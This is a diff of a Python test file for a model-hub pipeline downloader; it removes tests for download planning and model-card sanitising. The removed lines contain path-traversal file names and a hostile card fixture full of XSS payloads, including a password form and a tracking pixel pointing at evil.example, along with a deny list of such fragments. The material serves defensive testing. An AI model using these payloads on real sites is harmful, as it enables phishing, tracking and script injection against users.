@@ -11,9 +11,10 @@ from pathlib import Path
 import pytest
 from fakehub import FakeHub
 from huggingface_hub import constants
+from repositories import INDEX, small_repo
 
 from pipelines import cli
-from pipelines.errors import HubError, OfflineError, PipelineError, RefusedError
+from pipelines.errors import HubError, OfflineError, PipelineError
 from pipelines.hub.cache import (
     PARTIAL,
     cached_pipelines,
@@ -25,31 +26,16 @@ from pipelines.hub.cache import (
     leftovers,
     repo_folder,
 )
-from pipelines.hub.card import card_html, picture_path, picture_paths
 from pipelines.hub.client import Hub
 from pipelines.hub.download import Downloads
 from pipelines.hub.folders import LocalFolders, local_details, offered_models
 from pipelines.hub.pictures import example_pictures
-from pipelines.hub.plan import HubFile, make_plan
 from pipelines.hub.search import PAGE, HubQuery, HubSearch
 from pipelines.models.files import BUNDLED
 from pipelines.models.registry import Registry
 
 WAIT = 60
 PAGE_OF_CARD = "http://hub.example/ada/sd"
-INDEX = {"_class_name": "DDPMPipeline", "scheduler": ["diffusers", "DDPMScheduler"],
-         "unet": ["diffusers", "UNet2DModel"]}  # fmt: skip
-
-
-def small_repo(root: Path, name: str, weights: bytes = b"w" * 1000, index=INDEX) -> Path:
-    """A repository of the shape of a DDPM, with weights that nobody opens."""
-    folder = root / name
-    for part, config in (("unet", "config.json"), ("scheduler", "scheduler_config.json")):
-        (folder / part).mkdir(parents=True)
-        (folder / part / config).write_text("{}")
-    (folder / "unet" / "diffusion_pytorch_model.safetensors").write_bytes(weights)
-    (folder / "model_index.json").write_text(json.dumps(index))
-    return folder
 
 
 @pytest.fixture
@@ -209,135 +195,7 @@ def test_a_token_is_named_and_never_shown(fake, tmp_path, monkeypatch):
     assert "hf_secret" not in repr(HubSearch(hub, HubQuery()).page(1))
 
 
-# --- plans
-
-
-def files(*paths):
-    return [HubFile(path, 10, "a" * 40) for path in paths]
-
-
-def planned(*paths, index=INDEX, **options):
-    plan = make_plan("a/b", "main", "c" * 40, files("model_index.json", *paths), index, **options)
-    return [file.path for file in plan.files]
-
-
-UNET = "unet/config.json", "scheduler/scheduler_config.json"
-
-
-def test_shards_come_with_their_index_and_without_other_variants():
-    shards = [f"unet/diffusion_pytorch_model-0000{n}-of-00002.safetensors" for n in (1, 2)]
-    half = [f"unet/diffusion_pytorch_model.fp16-0000{n}-of-00002.safetensors" for n in (1, 2)]
-    old = [f"unet/model-0000{n}-of-00002.bf16.safetensors" for n in (1, 2)]
-    listing = "unet/diffusion_pytorch_model.safetensors.index.json"
-    every = [*UNET, *shards, *half, listing, listing.replace(".json", ".fp16.json"), *old,
-             "unet/model.safetensors.index.bf16.json"]
-    assert {*shards, listing} < set(planned(*every)) and not {*half, *old} & set(planned(*every))
-    assert {*half, listing.replace(".json", ".fp16.json")} < set(planned(*every, variant="fp16"))
-    assert set(old) < set(planned(*every, variant="bf16"))
-
-
-def test_one_file_is_preferred_to_its_shards():
-    one = "unet/diffusion_pytorch_model.safetensors"
-    shard = "unet/diffusion_pytorch_model-00001-of-00001.safetensors"
-    assert shard not in planned(*UNET, one, shard, f"{one}.index.json")
-
-
-def test_the_only_variant_is_taken_without_asking():
-    half = "unet/diffusion_pytorch_model.fp16.safetensors"
-    assert half in planned(*UNET, half)
-
-
-@pytest.mark.parametrize("paths, index, words", [
-    (UNET, {**INDEX, "_class_name": ["mine", "Pipe"]}, "code of its own"),
-    (UNET, {**INDEX, "unet": ["mine", "UNet"]}, "own code is never run"),
-    (UNET[1:], INDEX, "names unet, but there is no such folder"),
-    (UNET, INDEX, "no safetensors by a name that diffusers reads"),
-    ((*UNET, "unet/weights.safetensors"), INDEX, "no safetensors by a name"),
-    ((*UNET, "unet/model.onnx"), INDEX, "only as ONNX"),
-    ((*UNET, "unet/flax_model.msgpack"), INDEX, "only as Flax"),
-    ((*UNET, "unet/diffusion_pytorch_model.ckpt"), INDEX, "pickle"),
-])
-def test_what_cannot_be_opened_is_refused_with_the_reason(paths, index, words):
-    with pytest.raises(RefusedError, match=words):
-        planned(*paths, index=index)
-
-
-def test_repositories_without_a_pipeline_say_what_they_are():
-    for paths, words in ((["config.json", "model.safetensors"], "single component"),
-                         (["a.ckpt"], "pickle"), (["README.md"], "no diffusion pipeline")):
-        with pytest.raises(RefusedError, match=words):
-            make_plan("a/b", "main", "c" * 40, files(*paths), None)
-
-
-def test_only_the_configs_for_a_single_file_from_elsewhere():
-    weights = "unet/diffusion_pytorch_model.safetensors"
-    got = planned(*UNET, weights, f"{weights}.index.json", configs_only=True)
-    assert got == ["model_index.json", "scheduler/scheduler_config.json", "unet/config.json"]
-
-
-@pytest.mark.parametrize("path", ["../evil.safetensors", "/etc/x.safetensors",
-                                  "a/../../x.safetensors", "c:\\x.safetensors"])
-def test_a_file_that_would_leave_the_cache_is_refused(path):
-    with pytest.raises(RefusedError, match="cannot be stored"):
-        make_plan("a/b", "main", "c" * 40, files(path), None)
-    with pytest.raises(RefusedError, match="cannot be stored"):
-        make_plan("a/b", "main", "c" * 40, [HubFile("x.safetensors", 1, "../../x")], None)
-
-
 # --- cards
-
-
-HOSTILE = """---
-license: mit
----
-# Card
-<script>document.title = 'owned'</script>
-<form action="https://evil.example"><input name="password"><button>Log in</button></form>
-<img src="images/own.png" onerror="document.title='owned'" alt="own">
-
-![tracker](https://evil.example/pixel.gif?reader=1)
-
-<img src="//evil.example/p.png"><img src="http://hub.example/eve/sd/resolve/main/p.png">
-[click](javascript:alert(1)) <a href=" java&#9;script:alert(1)">a</a>
-<a href="vbscript:x">b</a> <a href="data:text/html,<script>">c</a>
-<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x">
-<style>* { display: none }</style><div style="position: fixed" id="stApp" class="cs-notice">d</div>
-<svg onload="alert(1)"></svg><math><mi xlink:href="javascript:x">m</mi></math>
-<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example">
-<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png" autoplay></video>
-
-[docs](docs/use.md) and [elsewhere](https://ok.example/page)
-"""
-
-
-def test_a_hostile_card_is_harmless():
-    html = card_html(HOSTILE, PAGE_OF_CARD, lambda path: f"/media/{path}")
-    for bad in ("<script", "onerror", "onload", "<form", "<input", "<button", "<iframe", "<style",
-                "style=", "id=", "class=", "<svg", "<meta", "<base", "<video", "<object", "<embed",
-                "href=\"java", "vbscript", "href=\"data", "src=\"http", "src=\"//", "pixel.gif",
-                "password", "owned"):  # fmt: skip
-        assert bad not in html, bad
-    assert '<img src="/media/images/own.png" alt="own">' in html
-    assert "[picture: tracker, not loaded]" in html
-    assert f'href="{PAGE_OF_CARD}/blob/main/docs/use.md"' in html
-    assert 'href="https://ok.example/page" target="_blank" rel="noopener noreferrer nofollow"' \
-        in html
-    assert "license: mit" not in html
-
-
-def test_only_pictures_of_the_repository_itself_are_asked_for():
-    assert picture_paths(HOSTILE, PAGE_OF_CARD) == ["images/own.png"]
-    base = f"{PAGE_OF_CARD}/resolve/main"
-    assert picture_path(f"{base}/a%20b.png", PAGE_OF_CARD) == "a b.png"
-    for other in ("https://hub.example/ada/sd/resolve/main/x.png", f"{PAGE_OF_CARD}2/x.png",
-                  "http://hub.example/ada/sd-evil/resolve/main/x.png", "data:image/png;base64,x",
-                  "file:///etc/passwd", "../../../x.png"):  # fmt: skip
-        assert picture_path(other, PAGE_OF_CARD) is None, other
-
-
-def test_tables_and_code_of_a_card_are_shown():
-    html = card_html("| a | b |\n|---|---|\n| 1 | `x<y` |\n")
-    assert "<td>1</td>" in html and "<code>x&lt;y</code>" in html
 
 
 def test_pictures_are_fetched_by_us_and_made_small(fake, hub):
